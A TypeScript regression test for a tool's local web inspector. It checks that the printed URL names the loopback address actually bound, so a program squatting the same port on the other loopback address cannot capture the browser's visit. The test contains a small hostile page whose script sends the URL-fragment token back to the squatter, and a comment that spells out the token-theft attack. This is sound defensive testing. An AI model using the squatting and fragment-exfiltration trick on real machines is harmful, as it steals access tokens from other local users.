/**
 * The URL the inspector prints, opened in a real browser (headless Chromium through
 * playwright-core) while another local program holds the same port on the other loopback
 * address: the browser must reach the inspector, never the other program, which would read the
 * token from the URL's fragment.
 */
import assert from 'node:assert/strict'
import { existsSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import { after, before, describe, it } from 'node:test'
import { chromium, type Browser } from 'playwright-core'
import { startInspector, type Inspector } from '../../src/inspector/inspector-server.js'
import { TrafficRecorder } from '../../src/inspector/traffic-recorder.js'

const CHROMIUM = '/usr/bin/chromium'
const ARGS = ['--headless', '--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-sync']

/** Listen on `host`:`port`, resolving with the server, or null when that cannot be done. */
function listenOn(server: Server, host: string, port: number): Promise<Server | null> {
  return new Promise((resolve) => {
    server.once('error', () => resolve(null))
    server.listen({ host, port, ipv6Only: host.includes(':') }, () => resolve(server))
  })
}

describe('the inspector URL printed for a host name', { skip: !existsSync(CHROMIUM) }, () => {
  let browser: Browser

  before(async () => {
    browser = await chromium.launch({ executablePath: CHROMIUM, args: ARGS })
  })
  after(async () => {
    await browser?.close()
  })

  it('names the address bound, so another program on the same port of the other loopback address never gets the token', async (t) => {
    // Found by hostile review: `--inspect-addr localhost:4040` listened on one address of
    // localhost (127.0.0.1 here) and printed `http://localhost:4040/#token=…`. Another local
    // user listening on [::1]:4040 got the browser's visit (Chromium tries ::1 first), and its
    // page read the token from the fragment, then used it on 127.0.0.1 with `Host: localhost`.
    const recorder = new TrafficRecorder()
    const inspector: Inspector = await startInspector({
      addr: 'localhost:0',
      addrExplicit: true,
      token: null,
      admin: false,
      recorder,
      replay: () => Promise.reject(new Error('no replay here')),
    })
    const bound = new URL(inspector.url).hostname
    const stolen: string[] = []
    const squatter = createServer((req, res) => {
      res.writeHead(200, { 'content-type': 'text/html' })
      res.end(
        '<!doctype html><title>other</title><script>' +
          'fetch("/seen?" + encodeURIComponent(location.hash))</script>',
      )
      if (req.url?.startsWith('/seen?')) stolen.push(decodeURIComponent(req.url.slice(6)))
    })
    // The other loopback address from the one the inspector listens on.
    const listening = await loopbackBound(inspector)
    const other = listening === '127.0.0.1' ? '::1' : '127.0.0.1'
    if (!(await listenOn(squatter, other, inspector.port))) {
      await inspector.close()
      t.skip(`cannot listen on ${other}:${inspector.port}`)
      return
    }
    const context = await browser.newContext()
    try {
      const page = await context.newPage()
      await page.goto(inspector.url)
      await page.waitForLoadState('load')
      assert.equal(await page.title(), 'Burrow inspector', `${inspector.url} reached the other`)
      await page.locator('#live.on').waitFor()
      assert.deepEqual(stolen, [])
      assert.equal(bound, listening === '::1' ? '[::1]' : listening)
    } finally {
      await context.close()
      squatter.closeAllConnections()
      await new Promise<void>((resolve) => squatter.close(() => resolve()))
      await inspector.close()
    }
  })
})

/** The loopback address the inspector listens on: the one whose port cannot be taken. */
async function loopbackBound(inspector: Inspector): Promise<string> {
  for (const host of ['127.0.0.1', '::1']) {
    const probe = createServer()
    const free = await listenOn(probe, host, inspector.port)
    if (free) {
      await new Promise<void>((resolve) => probe.close(() => resolve()))
      continue
    }
    return host
  }
  throw new Error('the inspector listens on neither loopback address')
}
